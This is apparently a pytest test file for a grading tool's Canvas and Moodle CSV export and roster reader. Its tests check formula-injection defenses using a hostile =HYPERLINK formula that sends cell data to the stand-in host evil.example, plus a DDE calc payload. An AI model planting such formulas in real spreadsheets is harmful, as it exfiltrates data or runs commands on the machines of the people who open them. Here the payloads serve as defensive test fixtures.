"""Questions about the LMS import files (grader.outputs.lms): a roster staff can write, and CSVs Canvas and Moodle take."""

from __future__ import annotations

import csv
import unicodedata

import pytest

from grader.outputs import lms
from grader.errors import UsageError

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(path):
    """The file's rows as the csv module reads them (BOM removed)."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def canvas_view(path):
    """(header, points row, {SIS Login ID: (Student, grade)}) read by the rules of Canvas's importer:
    the header's first cells, a points row found by "Points Possible" in its first cell, then students."""
    header, *rest = rows_of(path)
    assert list(header[:5]) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"], header
    assert len(header) == 6
    points = [r for r in rest if "Points Possible" in r[0]]
    students = [r for r in rest if "Points Possible" not in r[0]]
    assert all(len(r) == 6 and r[1] == r[2] == r[4] == "" for r in students), students
    return header, points, {r[3]: (r[0], r[5]) for r in students}


def moodle_view(path):
    """(header, {identifier: grade}): the header, then one row per user, an identifier and a grade."""
    header, *rest = rows_of(path)
    assert all(len(r) == 2 for r in rest), rest
    return header, {r[0]: r[1] for r in rest}


def write_roster(tmp_path, text: str, *, encoding="utf-8", name="roster.csv"):
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


# --- the roster -------------------------------------------------------------------------------------------


def test_does_a_roster_with_a_bom_and_odd_header_case_read(tmp_path):
    path = write_roster(tmp_path, "\ufeff STUDENT ,email,LMS ID,Name\r\n\r\n,,,\r\n José Müller ,j@x.org, jmuller ,"
                                  "José Müller\r\na b,,ab1,\r\n", name="Roster.csv")
    assert lms.read_roster(path) == (lms.RosterEntry(student="José Müller", lms_id="jmuller", name="José Müller"),
                                     lms.RosterEntry(student="a b", lms_id="ab1", name=""))


def test_does_a_semicolon_roster_from_a_european_excel_read(tmp_path):
    path = write_roster(tmp_path, "student;lms-id\nalice;a.smith@uni.example\n")
    assert lms.read_roster(path) == (lms.RosterEntry(student="alice", lms_id="a.smith@uni.example", name=""),)


def test_is_a_roster_without_the_lms_id_column_refused_naming_file_and_line(tmp_path):
    path = write_roster(tmp_path, "\nstudent,login\nalice,asmith\n")
    with pytest.raises(lms.RosterError) as err:
        lms.read_roster(path)
    assert "roster.csv, line 2" in err.value.message and "lms_id" in err.value.message


def test_is_a_student_listed_twice_refused_naming_both_lines(tmp_path):
    path = write_roster(tmp_path, "student,lms_id\nalice,a1\nbob,b1\nalice,a2\n")
    with pytest.raises(lms.RosterError, match=r"roster\.csv, line 4: student 'alice' is already on line 2"):
        lms.read_roster(path)


def test_is_one_lms_id_for_two_students_refused_even_in_another_case(tmp_path):
    path = write_roster(tmp_path, "student,lms_id\nalice,JDoe\nbob,jdoe\n")
    with pytest.raises(lms.RosterError, match=r"line 3: lms_id 'jdoe' is already on line 2 \(student 'alice'\)"):
        lms.read_roster(path)


def test_is_a_line_without_an_lms_id_refused(tmp_path):
    path = write_roster(tmp_path, "student,lms_id,name\nalice,a1,Alice\nbob,,Bob\n")
    with pytest.raises(lms.RosterError, match=r"line 3: student 'bob' has no lms_id"):
        lms.read_roster(path)


def test_is_a_line_without_a_student_refused(tmp_path):
    path = write_roster(tmp_path, "student,lms_id\n ,a1\n")
    with pytest.raises(lms.RosterError, match=r"line 2: the student cell is empty"):
        lms.read_roster(path)


@pytest.mark.parametrize("lms_id", ["=1+1", "+4412", "-x", "@SUM(A1)", "a\x1bb"])
def test_is_an_lms_id_a_spreadsheet_would_run_refused(tmp_path, lms_id):
    path = write_roster(tmp_path, f'student,lms_id\nalice,"{lms_id}"\n')
    with pytest.raises(lms.RosterError, match=r"line 2: lms_id .* formula"):
        lms.read_roster(path)


def test_is_a_roster_that_is_not_utf8_refused_with_its_line(tmp_path):
    path = write_roster(tmp_path, "student,lms_id\nalice,a1\nJosé,j1\n", encoding="latin-1")
    with pytest.raises(lms.RosterError, match=r"line 3: not UTF-8"):
        lms.read_roster(path)


@pytest.mark.parametrize("text, says", [("", "is empty"), ("\n \n", "is empty"),
                                        ("student,lms_id\n\n", "no students below the header on line 1")])
def test_is_a_roster_without_students_refused(tmp_path, text, says):
    with pytest.raises(lms.RosterError, match=says):
        lms.read_roster(write_roster(tmp_path, text))


def test_is_a_column_named_twice_refused(tmp_path):
    path = write_roster(tmp_path, "student,LMS ID,lms_id\nalice,a1,a2\n")
    with pytest.raises(lms.RosterError, match=r"line 1: two columns are named lms_id"):
        lms.read_roster(path)


def test_is_a_missing_roster_file_a_roster_error(tmp_path):
    with pytest.raises(lms.RosterError, match=r"cannot read the roster .*nope\.csv"):
        lms.read_roster(tmp_path / "nope.csv")


def test_is_a_roster_error_a_one_line_usage_error(tmp_path):
    path = write_roster(tmp_path, 'student,lms_id\n"al\nice",\n')
    with pytest.raises(UsageError) as err:
        lms.read_roster(path)
    assert isinstance(err.value, lms.RosterError) and err.value.exit_code == 2
    assert "\n" not in err.value.message and "'al\\nice'" in err.value.message


# --- the exports ------------------------------------------------------------------------------------------


def test_does_the_canvas_file_have_canvas_columns_and_a_points_possible_row(tmp_path):
    roster = write_roster(tmp_path, "student,lms_id,name\nalice,asmith,\"Smith, Alice\"\nbob,bjones,Bob Jones\n")
    out = lms.write_exports(tmp_path / "out", {"alice": 57, "bob": 28.5}, max_score=57, roster=roster,
                            column="Backprop HW (4021)")
    header, points, students = canvas_view(out.canvas)
    assert header[5] == "Backprop HW (4021)"
    assert [p[5] for p in points] == ["57"] and rows_of(out.canvas)[1][0] == "Points Possible"
    assert students == {"asmith": ("Smith, Alice", "57"), "bjones": ("Bob Jones", "28.5")}


def test_does_the_moodle_file_have_an_identifier_column_and_one_grade_column(tmp_path):
    roster = write_roster(tmp_path, "student,lms_id\nalice,asmith@uni.example\nbob,bjones@uni.example\n")
    out = lms.write_exports(tmp_path / "out", {"alice": 57, "bob": 0}, max_score=57, roster=roster)
    assert moodle_view(out.moodle) == (["lms_id", "backprop"], {"asmith@uni.example": "57", "bjones@uni.example": "0"})


def test_are_both_files_utf8_with_a_bom_and_crlf_line_ends(tmp_path):
    out = lms.write_exports(tmp_path, {"José Müller": 1}, max_score=57)
    for path in (out.canvas, out.moodle):
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") and "José Müller".encode() in raw
        assert raw.count(b"\r\n") == raw.count(b"\n") == len(rows_of(path))


def test_do_non_ascii_and_spaced_ids_go_through_unchanged_without_a_roster(tmp_path):
    out = lms.write_exports(tmp_path, {"a b": 10, "José Müller": 20, "_alice": 30}, max_score=57)
    _, _, students = canvas_view(out.canvas)
    assert students == {"José Müller": ("José Müller", "20"), "_alice": ("_alice", "30"), "a b": ("a b", "10")}
    assert [r[3] for r in rows_of(out.canvas)[2:]] == ["José Müller", "_alice", "a b"]   # sorted by id
    assert moodle_view(out.moodle)[1] == {"José Müller": "20", "_alice": "30", "a b": "10"}
    assert out.unusable_ids == out.not_in_roster == out.no_submission == ()


def test_is_a_hostile_id_never_a_formula_in_either_file(tmp_path):
    roster = write_roster(tmp_path, 'student,lms_id,name\n"' + HOSTILE.replace('"', '""') + '",h1,\n'
                          'bob,b1,"=cmd|\' /C calc\'!A0"\n')
    out = lms.write_exports(tmp_path / "out", {HOSTILE: 5, "bob": 6}, max_score=57, roster=roster)
    _, _, students = canvas_view(out.canvas)
    assert students == {"h1": ("'" + HOSTILE, "5"), "b1": ("'=cmd|' /C calc'!A0", "6")}
    for path in (out.canvas, out.moodle):
        assert not any(cell.startswith(FORMULA_LEADS) for row in rows_of(path) for cell in row)


def test_is_a_hostile_id_left_out_and_reported_without_a_roster(tmp_path):
    out = lms.write_exports(tmp_path, {HOSTILE: 5, "-rm": 1, "bob": 6}, max_score=57)
    assert out.unusable_ids == ("-rm", HOSTILE)
    assert canvas_view(out.canvas)[2] == {"bob": ("bob", "6")} and moodle_view(out.moodle)[1] == {"bob": "6"}


@pytest.mark.parametrize("score, points, grade", [
    (57, 100, "100"), (1, 100, "1.75"), (12.345, 100, "21.66"), (28.5, None, "28.5"),
    (2.675, None, "2.68"), (2.665, None, "2.67"),   # half up on the decimal shown: round() gives 2.67, 2.66
    (0, 10, "0"), (57, 57, "57"), (19, 3, "1")])
def test_are_scores_scaled_and_rounded_half_up_to_two_decimals(tmp_path, score, points, grade):
    out = lms.write_exports(tmp_path, {"alice": score}, max_score=57, points=points)
    assert canvas_view(out.canvas)[2]["alice"][1] == grade and moodle_view(out.moodle)[1]["alice"] == grade


def test_is_points_possible_the_scaled_maximum(tmp_path):
    out = lms.write_exports(tmp_path, {"alice": 57}, max_score=57, points=20)
    assert [p[5] for p in canvas_view(out.canvas)[1]] == ["20"]


def test_does_a_roster_student_without_a_submission_get_an_empty_canvas_cell_and_no_moodle_row(tmp_path):
    roster = write_roster(tmp_path, "student,lms_id,name\nalice,a1,Alice\nbob,b1,Bob\n")
    out = lms.write_exports(tmp_path / "out", {"alice": 12}, max_score=57, roster=roster)
    assert out.no_submission == (lms.RosterEntry(student="bob", lms_id="b1", name="Bob"),)
    assert canvas_view(out.canvas)[2] == {"a1": ("Alice", "12"), "b1": ("Bob", "")}
    assert moodle_view(out.moodle)[1] == {"a1": "12"}


def test_is_a_submission_missing_from_the_roster_reported_and_not_exported(tmp_path):
    roster = write_roster(tmp_path, "student,lms_id\nalice,a1\n")
    out = lms.write_exports(tmp_path / "out", {"alice": 12, "mallory": 57, "a b": 3}, max_score=57, roster=roster)
    assert out.not_in_roster == ("a b", "mallory")
    assert set(canvas_view(out.canvas)[2]) == set(moodle_view(out.moodle)[1]) == {"a1"}


def test_are_rows_in_roster_order(tmp_path):
    roster = write_roster(tmp_path, "student,lms_id\nzoe,z1\nadam,a1\nmia,m1\n")
    out = lms.write_exports(tmp_path / "out", {"adam": 1, "mia": 2, "zoe": 3}, max_score=57, roster=roster)
    assert [r[3] for r in rows_of(out.canvas)[2:]] == ["z1", "a1", "m1"]
    assert [r[0] for r in rows_of(out.moodle)[1:]] == ["z1", "a1", "m1"]


def test_does_a_decomposed_entry_name_match_its_roster_line(tmp_path):
    nfd = unicodedata.normalize("NFD", "José Müller")
    roster = write_roster(tmp_path, "student,lms_id\nJosé Müller,jmuller\n")
    out = lms.write_exports(tmp_path / "out", {nfd: 40}, max_score=57, roster=roster)
    assert moodle_view(out.moodle)[1] == {"jmuller": "40"} and out.not_in_roster == out.no_submission == ()


def test_is_an_exact_id_preferred_over_a_decomposed_twin(tmp_path):
    nfd = unicodedata.normalize("NFD", "José")
    roster = write_roster(tmp_path, "student,lms_id\nJosé,j1\n")
    out = lms.write_exports(tmp_path / "out", {nfd: 1, "José": 2}, max_score=57, roster=roster)
    assert moodle_view(out.moodle)[1] == {"j1": "2"} and out.not_in_roster == (nfd,)


def test_is_a_name_containing_points_possible_not_read_as_the_points_row(tmp_path):
    roster = write_roster(tmp_path, "student,lms_id,name\nalice,a1,Alice Points Possible\n")
    out = lms.write_exports(tmp_path / "out", {"alice": 3}, max_score=57, roster=roster)
    _, points, students = canvas_view(out.canvas)
    assert len(points) == 1 and students == {"a1": ("Alice Points_Possible", "3")}


@pytest.mark.parametrize("assignment", ["", "  ", "Final Score", "HW Current Grade", "Section", "LMS_ID",
                                        "=1+1", "hw\n2", "x" * 256])
def test_is_an_assignment_an_lms_would_not_read_as_a_grade_column_refused(tmp_path, assignment):
    with pytest.raises(UsageError):
        lms.write_exports(tmp_path, {"alice": 1}, max_score=57, column=assignment)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("points", [0, -5, float("nan"), float("inf"), True, "100"])
def test_are_points_that_are_not_a_positive_number_refused(tmp_path, points):
    with pytest.raises(UsageError, match="--points"):
        lms.write_exports(tmp_path, {"alice": 1}, max_score=57, points=points)


@pytest.mark.parametrize("score", [-1, float("nan"), float("inf"), None])
def test_is_a_score_that_is_not_a_finite_non_negative_number_refused(tmp_path, score):
    with pytest.raises(ValueError, match="alice"):
        lms.write_exports(tmp_path, {"alice": score}, max_score=57)


def test_does_a_roster_error_leave_the_previous_files_untouched(tmp_path):
    good = lms.write_exports(tmp_path, {"alice": 1}, max_score=57)
    before = good.canvas.read_bytes(), good.moodle.read_bytes()
    bad = write_roster(tmp_path, "student,lms_id\nalice,a1\nalice,a2\n", name="bad.csv")
    with pytest.raises(lms.RosterError):
        lms.write_exports(tmp_path, {"alice": 2}, max_score=57, roster=bad)
    assert (good.canvas.read_bytes(), good.moodle.read_bytes()) == before


def test_does_a_failed_rename_leave_the_old_file_whole(tmp_path, monkeypatch):
    old = lms.write_exports(tmp_path, {"alice": 1}, max_score=57).canvas.read_bytes()

    def refuse(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(lms.os, "replace", refuse)
    with pytest.raises(OSError):
        lms.write_exports(tmp_path, {"alice": 2, "bob": 3}, max_score=57)
    assert (tmp_path / lms.CANVAS_FILE).read_bytes() == old


def test_are_the_files_the_same_whatever_the_order_of_the_scores(tmp_path):
    scores = {"zoe": 1.5, "José Müller": 2, "a b": 3, "adam": 57}
    one = lms.write_exports(tmp_path / "one", scores, max_score=57, points=10)
    two = lms.write_exports(tmp_path / "two", dict(reversed(scores.items())), max_score=57, points=10)
    assert one.canvas.read_bytes() == two.canvas.read_bytes() and one.moodle.read_bytes() == two.moodle.read_bytes()
    assert sorted(p.name for p in (tmp_path / "one").iterdir()) == [lms.CANVAS_FILE, lms.MOODLE_FILE]
